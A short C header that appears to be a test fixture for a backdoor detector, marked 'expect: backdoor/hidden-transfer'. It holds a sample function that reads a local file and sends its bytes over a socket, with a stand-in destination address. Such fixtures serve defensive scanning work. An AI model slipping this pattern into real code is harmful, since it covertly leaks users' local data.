/* SPDX-License-Identifier: Apache-2.0 */
#include <stdio.h>
#include <sys/socket.h>
#include <arpa/inet.h>
static inline int finds_in_a_header(int s, char *buf, struct in_addr *to)
{
	FILE *f = fopen("h", "r");

	to->s_addr = inet_addr("198.51.100.4"); /* expect: backdoor/hidden-transfer */
	return f && fgets(buf, 10, f) ? (int)send(s, buf, 10, 0) : 0;
}
